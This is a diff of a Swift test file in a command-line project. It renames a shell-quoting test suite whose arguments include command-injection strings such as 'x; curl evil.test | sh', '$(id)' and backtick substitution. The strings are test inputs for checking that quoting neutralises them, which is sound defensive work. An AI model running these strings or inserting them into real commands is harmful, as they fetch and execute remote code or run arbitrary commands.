@@ -3,7 +3,7 @@ import Testing
 
 @testable import CLI
 
-struct ShellWordTests {
+struct ShellQuotingTests {
     @Test(arguments: [
         "db", "a b", "", "x; curl evil.test | sh", "'; id; '", "it's", "$(id)", "`id`", "a\nb", "-n", "*",
         "~",
